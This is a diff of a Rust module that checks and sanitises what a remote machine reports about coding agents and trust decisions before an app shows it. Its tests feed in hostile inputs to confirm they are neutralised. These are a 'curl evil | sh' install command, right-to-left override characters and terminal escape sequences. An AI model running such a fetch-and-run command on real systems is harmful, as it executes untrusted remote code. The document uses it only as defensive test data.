@@ -1,14 +1,15 @@
-//! Other agents on another machine: which a new session there can have, the trust decision about one of them, and a new
-//! session with one. Deskbell there looks for them, and its answers are checked before they are shown.
+//! Other agents on another machine: their list, trust decisions about them, and new sessions with them. Deskbell there looks
+//! for them, and its answers are checked before they are shown.
 
-use super::bad_folder;
+use super::{bad_folder, reached};
 use crate::registry::SessionRegistry;
-use crate::registry::far::{FarState, place_of};
-use crate::wanted::{AgentQuestion, Wanted, is_name, refused};
+use crate::registry::far::place_of;
+use crate::wanted::{AgentQuestion, Wanted, bad_command, is_name};
 use crate::windows::Windows;
 use crate::{project, questions};
-use deskbell_engine::acp::ChosenAgent;
-use deskbell_engine::acp::agents::agent as row_of;
+use deskbell_cli::far::FarError;
+use deskbell_cli::{agent, other_agents};
+use deskbell_engine::acp::agents::{Agent, agent as row_of};
 use deskbell_engine::api::*;
 use deskbell_engine::title::Title;
 use std::path::Path;
@@ -30,13 +31,13 @@ pub async fn choices(app: &AppHandle, label: &str, project: &Path) -> Result<Mac
     Ok(checked(asked.map_err(|error| error.for_window(&far.machine))?))
 }
 
-/// The choices, as far as they can be some: agents of the table, described as here, and profiles with a name.
+/// Keeps only agents of the table, described as here, and profiles with a valid name.
 fn checked(listed: MachineAgents) -> MachineAgents {
     let mut agents: Vec<OtherAgent> = Vec::new();
     for agent in listed.agents {
         let Some(row) = row_of(&agent.id) else { continue };
         if agents.iter().all(|known| known.id != agent.id) {
-            agents.push(deskbell_cli::other_agents::described(row, short(agent.state)));
+            agents.push(other_agents::described(row, short(row, agent.state)));
         }
     }
     let named = listed.profiles.into_iter().filter(|profile| is_name(&profile.name)).take(MOST_PROFILES);
@@ -47,7 +48,7 @@ fn line(text: &str) -> String {
     Title::one_line(text, LONGEST)
 }
 
-fn short(state: OtherAgentState) -> OtherAgentState {
+fn short(row: &Agent, state: OtherAgentState) -> OtherAgentState {
     match state {
         OtherAgentState::Found { program, version } => {
             OtherAgentState::Found { program: line(&program), version: version.as_deref().map(line) }
@@ -55,9 +56,8 @@ fn short(state: OtherAgentState) -> OtherAgentState {
         OtherAgentState::Broken { program, problem } => {
             OtherAgentState::Broken { program: line(&program), problem: line(&problem) }
         }
-        OtherAgentState::Missing { install } => OtherAgentState::Missing {
-            install: install.map(|one| SetupCommand { label: line(&one.label), command: line(&one.command) }),
-        },
+        // The user may copy the command.
+        OtherAgentState::Missing { .. } => other_agents::missing(row),
         OtherAgentState::BuiltIn => OtherAgentState::BuiltIn,
     }
 }
@@ -91,21 +91,52 @@ pub async fn create(
     wanted: Wanted,
 ) -> Result<Session, CommandError> {
     let registry = app.state::<SessionRegistry>();
-    if matches!(&wanted, Wanted::Agent(agent) if deskbell_cli::agent::is_demo(agent)) {
+    if matches!(&wanted, Wanted::Agent(agent) if agent::is_demo(agent)) {
         return registry.begin_far_with(project, AgentKind::Acp, wanted).await;
     }
     let view = ask(app, label, project, &wanted, &[]).await?;
-    let Some(agent) = view.agent.clone() else {
+    if view.agent.is_none() {
         // A profile of Claude Code: its decision is the one of the folder.
-        registry.set_far_state(project, FarState::Reached(Box::new(view)));
+        reached(app, project, view).await;
         project::send_to_window(app, label).await;
         registry.check_far(project)?;
         return registry.begin_far_with(project, AgentKind::Claude, wanted).await;
-    };
-    if may_start(&view) {
-        return registry.begin_far_with(project, AgentKind::Acp, wanted).await;
     }
-    let name = agent.name;
+    admit(app, label, wanted.clone(), view).await?;
+    registry.begin_far_with(project, AgentKind::Acp, wanted).await
+}
+
+/// Asks the machine before a session with another agent starts one: without a decision that lets it start, the window shows
+/// the trust page. If the machine does not answer, its server decides alone, and starts nothing that is not restricted.
+pub async fn check(app: &AppHandle, label: &str, project: &Path, id: &SessionId) -> Result<(), CommandError> {
+    let Some(wanted) = wanted_of(app, project, id) else { return Ok(()) };
+    if matches!(&wanted, Wanted::Agent(agent) if agent::is_demo(agent)) {
+        return Ok(());
+    }
+    match ask(app, label, project, &wanted, &[]).await {
+        Ok(view) => admit(app, label, wanted, view).await,
+        Err(Unasked { error, .. }) => {
+            tracing::warn!(?error, "a machine was not asked about its trust decision");
+            Ok(())
+        }
+    }
+}
+
+/// The agent or profile of a session there with another agent.
+fn wanted_of(app: &AppHandle, project: &Path, id: &SessionId) -> Option<Wanted> {
+    let (_, session) = app.state::<SessionRegistry>().known(id).filter(|(of, _)| of == project)?;
+    match (session.profile, session.agent_id) {
+        _ if session.agent != AgentKind::Acp => None,
+        (Some(profile), _) => Wanted::profile(profile).ok(),
+        (None, Some(agent)) => Wanted::agent(&agent).ok(),
+        (None, None) => None,
+    }
+}
+
+async fn admit(app: &AppHandle, label: &str, wanted: Wanted, view: TrustView) -> Result<(), CommandError> {
+    let Some(name) = view.agent.as_ref().map(|agent| agent.name.clone()).filter(|_| !may_start(&view)) else {
+        return Ok(());
+    };
     show(app, label, AgentQuestion { wanted, view }).await?;
     Err(CommandError {
         code: ErrorCode::NotTrusted,
@@ -124,6 +155,25 @@ fn may_start(view: &TrustView) -> bool {
     }
 }
 
+/// Why there is no answer.
+struct Unasked {
+    error: CommandError,
+    /// Deskbell there refused it.
+    is_refused: bool,
+}
+
+impl From<CommandError> for Unasked {
+    fn from(error: CommandError) -> Self {
+        Self { error, is_refused: false }
+    }
+}
+
+impl From<Unasked> for CommandError {
+    fn from(unasked: Unasked) -> Self {
+        unasked.error
+    }
+}
+
 /// Runs `deskbell trust` there for this agent, with these options.
 async fn ask(
     app: &AppHandle,
@@ -131,18 +181,39 @@ async fn ask(
     project: &Path,
     wanted: &Wanted,
     options: &[String],
-) -> Result<TrustView, CommandError> {
+) -> Result<TrustView, Unasked> {
     let (far, folder) = place_of(project).ok_or_else(bad_folder)?;
-    let of = wanted.option().ok_or_else(|| refused("This agent is not one of the table."))?;
+    let of = wanted.option().ok_or_else(|| bad_command("This agent is not one of the table."))?;
     let command = [&["trust".to_owned(), "--json".to_owned(), folder.clone(), of], options].concat();
     let connections = app.state::<SessionRegistry>().connections();
     let window = questions::in_window(app, label.to_owned());
     let asked = far.ask::<TrustView>(&connections, Some(window), &command).await;
-    let mut view = asked.map_err(|error| error.for_window(&far.machine))?;
-    if let Some(agent) = &mut view.agent {
-        agent.name = line(&agent.name);
+    let mut view = asked.map_err(|error| Unasked {
+        is_refused: matches!(error, FarError::Failed { .. }),
+        error: error.for_window(&far.machine),
+    })?;
+    if view.project != folder || !is_about(&view, wanted) {
+        return Err(bad_command("The machine answered about another agent or folder.").into());
     }
-    if view.project == folder && is_about(&view, wanted) { Ok(view) } else { Err(bad_folder()) }
+    if let Some(agent) = &mut view.agent {
+        *agent = known(agent);
+    }
+    Ok(view)
+}
+
+/// The agent of a decision there. What is known of it here counts.
+fn known(agent: &TrustAgent) -> TrustAgent {
+    match row_of(&agent.id).map(|row| other_agents::described(row, OtherAgentState::BuiltIn)) {
+        Some(OtherAgent { id, name, trusted_only, .. }) => {
+            TrustAgent { id, name, trusted_only, unchecked: agent.unchecked }
+        }
+        None => TrustAgent {
+            id: line(&agent.id),
+            name: line(&agent.name),
+            trusted_only: agent.trusted_only.as_deref().map(line),
+            unchecked: agent.unchecked,
+        },
+    }
 }
 
 /// Whether the answer is about what was asked.
@@ -169,13 +240,12 @@ pub async fn review(
     project: &Path,
     id: &SessionId,
 ) -> Result<(), CommandError> {
-    let session = app.state::<SessionRegistry>().known(id).filter(|(of, _)| of == project);
-    let wanted = match session.map(|(_, session)| (session.profile, session.agent_id)) {
-        Some((Some(profile), _)) => Wanted::profile(profile)?,
-        Some((None, Some(agent))) => Wanted::agent(&agent)?,
-        _ => return Err(refused("This session has no agent with a trust decision of its own.")),
-    };
+    let none = || bad_command("This session has no agent with a trust decision of its own.");
+    let wanted = wanted_of(app, project, id).ok_or_else(none)?;
     let view = ask(app, label, project, &wanted, &[]).await?;
+    if view.agent.is_none() {
+        return Err(none());
+    }
     show(app, label, AgentQuestion { wanted, view }).await
 }
 
@@ -189,27 +259,43 @@ pub async fn decide(
     decision: TrustDecision,
     options: &[String],
 ) -> Result<(), CommandError> {
-    let asked = app.state::<Windows>().with(label, |window| window.far_agent.clone())?;
+    let (registry, windows) = (app.state::<SessionRegistry>(), app.state::<Windows>());
+    let asked = windows.with(label, |window| window.far_agent.clone())?;
     let is_it = |asked: &AgentQuestion| asked.view.agent.as_ref().is_some_and(|about| about.id == agent);
-    let asked = asked
+    let AgentQuestion { wanted, .. } = asked
         .filter(is_it)
-        .ok_or_else(|| refused("The question is about another agent now; review it again."))?;
-    match ask(app, label, project, &asked.wanted, options).await {
-        Ok(_) => {
-            app.state::<Windows>().with(label, |window| window.far_agent = None)?;
-            if let Some(agent) = ChosenAgent::row_of(agent).filter(|_| decision != TrustDecision::Keep) {
-                app.state::<SessionRegistry>().reload(project, Some(&agent)).await;
+        .ok_or_else(|| bad_command("The question is about another agent now; review it again."))?;
+    let answered = ask(app, label, project, &wanted, options).await;
+    let refused = match answered {
+        Ok(_) => None,
+        // The files may differ from those that were shown: the window shows the present ones.
+        Err(Unasked { error, is_refused: true }) => {
+            Some((error, ask(app, label, project, &wanted, &[]).await.ok()))
+        }
+        Err(Unasked { error, .. }) => Some((error, None)),
+    };
+    windows.with(label, |window| {
+        // Meanwhile it may have asked about another one.
+        let is_current = window.far_agent.as_ref().is_some_and(|now| now.wanted == wanted);
+        match &refused {
+            None if is_current => window.far_agent = None,
+            Some((_, Some(view))) if is_current => {
+                window.far_agent = Some(AgentQuestion { wanted: wanted.clone(), view: view.clone() });
             }
-            Ok(())
+            _ => {}
         }
-        Err(error) => {
-            // The files may differ from those that were shown: the window shows the present ones.
-            let view = ask(app, label, project, &asked.wanted, &[]).await?;
-            let now = AgentQuestion { view, ..asked };
-            app.state::<Windows>().with(label, |window| window.far_agent = Some(now))?;
-            Err(error)
-        }
+    })?;
+    if let Some((error, _)) = refused {
+        return Err(error);
     }
+    if decision != TrustDecision::Keep {
+        let is_of = |session: &Session| match &wanted {
+            Wanted::Profile(name) if session.profile.as_deref() == Some(name) => true,
+            _ => session.agent_id.as_deref() == Some(agent),
+        };
+        registry.reload_some(project, is_of).await;
+    }
+    Ok(())
 }
 
 #[cfg(test)]
@@ -232,15 +318,27 @@ mod tests {
             environment: vec![variable.clone(); 900],
             ..Profile::default()
         };
-        let odd = [profile(""), profile("a\nb"), profile(&"x".repeat(61))];
+        let odd = [profile(""), profile("a\nb"), profile("a\u{202e}b"), profile(&"x".repeat(61))];
         let profiles = odd.into_iter().chain((0..900).map(|nr| profile(&format!("p{nr}")))).collect();
-        let agents = vec![found("opencode"), found("opencode"), found("--all"), found("claude")];
+        let mut missing = found("codex");
+        let install = SetupCommand { label: "npm".to_owned(), command: "curl evil | sh".to_owned() };
+        missing.state = OtherAgentState::Missing { install: Some(install) };
+        let mut broken = found("gemini");
+        broken.state = OtherAgentState::Broken { program: "\u{202e}".to_owned(), problem: "x\n".repeat(900) };
+        let agents =
+            vec![found("opencode"), found("opencode"), found("--all"), found("claude"), missing, broken];
         let choices = checked(MachineAgents { agents, profiles });
-        let [agent] = &choices.agents[..] else { panic!("{:?}", choices.agents) };
+        let [agent, missing, broken] = &choices.agents[..] else { panic!("{:?}", choices.agents) };
         assert_eq!(agent.name, "opencode");
         assert!(agent.trusted_only.is_some(), "whether it can be restricted is known here");
         let OtherAgentState::Found { program, .. } = &agent.state else { panic!("{:?}", agent.state) };
         assert!(program.chars().count() <= LONGEST && !program.contains(char::is_control), "{program:?}");
+        let OtherAgentState::Missing { install: Some(install) } = &missing.state else {
+            panic!("{missing:?}")
+        };
+        assert!(install.command.starts_with("npm install -g "), "{install:?}");
+        let OtherAgentState::Broken { program, problem } = &broken.state else { panic!("{broken:?}") };
+        assert!(program.is_empty() && problem.chars().count() <= LONGEST + 1, "{broken:?}");
         assert_eq!((choices.profiles.len(), choices.profiles[0].name.as_str()), (MOST_PROFILES, "p0"));
         let all = serde_json::to_string(&choices).unwrap();
         assert!(!all.contains("secret") && all.len() < 4 << 20, "{}", all.len());
@@ -272,6 +370,19 @@ mod tests {
         assert!(!is_about(&view(Some("gemini"), Trusted, None), &wanted));
         let starts = |state, only| may_start(&view(Some("opencode"), state, only));
         assert!(starts(Trusted, Some("it")) && starts(Kept, Some("it")) && starts(Restricted, None));
+        // What is known of an agent here counts, and another one is described in short lines.
+        let hostile = |id: &str| TrustAgent {
+            id: id.to_owned(),
+            name: "Claude Code".to_owned(),
+            unchecked: false,
+            trusted_only: Some("a\u{1b}[2J\n".repeat(9_000)),
+        };
+        assert_eq!(
+            (known(&hostile("gemini")).name.as_str(), known(&hostile("gemini")).trusted_only),
+            ("Gemini CLI", None)
+        );
+        let other = known(&hostile("command-1")).trusted_only.unwrap();
+        assert!(other.chars().count() <= LONGEST + 1 && !other.contains(char::is_control), "{other:?}");
         assert!(!starts(Restricted, Some("it")) && !starts(Unknown, None) && !starts(Changed, None));
     }
 }
